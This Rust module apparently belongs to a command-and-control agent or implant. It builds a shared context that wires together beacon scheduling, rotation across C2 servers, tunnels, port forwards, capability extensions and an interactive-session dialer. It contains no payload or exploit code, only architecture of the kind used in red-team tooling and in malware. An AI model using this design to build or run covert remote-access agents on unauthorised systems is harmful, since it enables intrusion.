//! Process-wide state, constructed once and shared by every component

use crate::config::{AgentConfig, RuntimeSettings};
use crate::error::RegistryError;
use crate::handlers::{builtin_handlers, ExtensionStore};
use crate::portfwd::PortForwardRegistry;
use crate::reconnect::C2Rotation;
use crate::registry::{HandlerRegistry, HandlerRegistryBuilder};
use crate::transport::{Connection, Dial};
use crate::tunnel::TunnelRegistry;
use std::sync::Arc;

/// Dialer used when a beacon is asked to open an interactive session
pub type SessionDialer = Arc<dyn Dial<Output = Connection>>;

/// Top-level agent context
pub struct AgentContext {
    /// Static configuration
    pub config: AgentConfig,
    /// Runtime-adjustable schedule
    pub settings: Arc<RuntimeSettings>,
    /// C2 transports the reconnection loop rotates over
    pub transports: Arc<C2Rotation>,
    /// Message routing table
    pub handlers: Arc<HandlerRegistry>,
    /// Active port forwards
    pub forwards: Arc<PortForwardRegistry>,
    /// Active in-band tunnels
    pub tunnels: Arc<TunnelRegistry>,
    /// Registered capability extensions
    pub extensions: Arc<ExtensionStore>,
    /// Dialer for sessions opened from beacon mode
    pub session_dialer: Option<SessionDialer>,
}

impl AgentContext {
    /// Start building a context
    pub fn builder(config: AgentConfig) -> AgentContextBuilder {
        AgentContextBuilder::new(config)
    }

    /// Context with the built-in handler set
    pub fn with_builtins(config: AgentConfig) -> Result<Arc<Self>, RegistryError> {
        let builder = Self::builder(config);
        let handlers = builder.builtin_handlers().build()?;
        Ok(builder.build(handlers))
    }
}

/// Builder for [`AgentContext`]. The shared registries exist before the
/// handler table so handlers can hold references to them.
pub struct AgentContextBuilder {
    config: AgentConfig,
    settings: Arc<RuntimeSettings>,
    transports: Arc<C2Rotation>,
    forwards: Arc<PortForwardRegistry>,
    tunnels: Arc<TunnelRegistry>,
    extensions: Arc<ExtensionStore>,
    session_dialer: Option<SessionDialer>,
}

impl AgentContextBuilder {
    fn new(config: AgentConfig) -> Self {
        let settings = Arc::new(RuntimeSettings::new(config.schedule()));
        let transports = Arc::new(C2Rotation::new(config.c2_servers.clone()));
        Self {
            config,
            settings,
            transports,
            forwards: Arc::new(PortForwardRegistry::new()),
            tunnels: Arc::new(TunnelRegistry::new()),
            extensions: Arc::new(ExtensionStore::default()),
            session_dialer: None,
        }
    }

    /// Runtime settings the context will share
    pub fn settings(&self) -> &Arc<RuntimeSettings> {
        &self.settings
    }

    /// Port-forward registry the context will share
    pub fn forwards(&self) -> &Arc<PortForwardRegistry> {
        &self.forwards
    }

    /// Handler registry builder preloaded with the built-in handlers
    pub fn builtin_handlers(&self) -> HandlerRegistryBuilder {
        builtin_handlers(
            HandlerRegistry::builder(),
            &self.settings,
            &self.transports,
            &self.forwards,
            &self.tunnels,
            &self.extensions,
        )
    }

    /// Set the dialer used for open-session requests
    pub fn session_dialer(mut self, dialer: SessionDialer) -> Self {
        self.session_dialer = Some(dialer);
        self
    }

    /// Finish with the given handler table
    pub fn build(self, handlers: HandlerRegistry) -> Arc<AgentContext> {
        Arc::new(AgentContext {
            config: self.config,
            settings: self.settings,
            transports: self.transports,
            handlers: Arc::new(handlers),
            forwards: self.forwards,
            tunnels: self.tunnels,
            extensions: self.extensions,
            session_dialer: self.session_dialer,
        })
    }
}
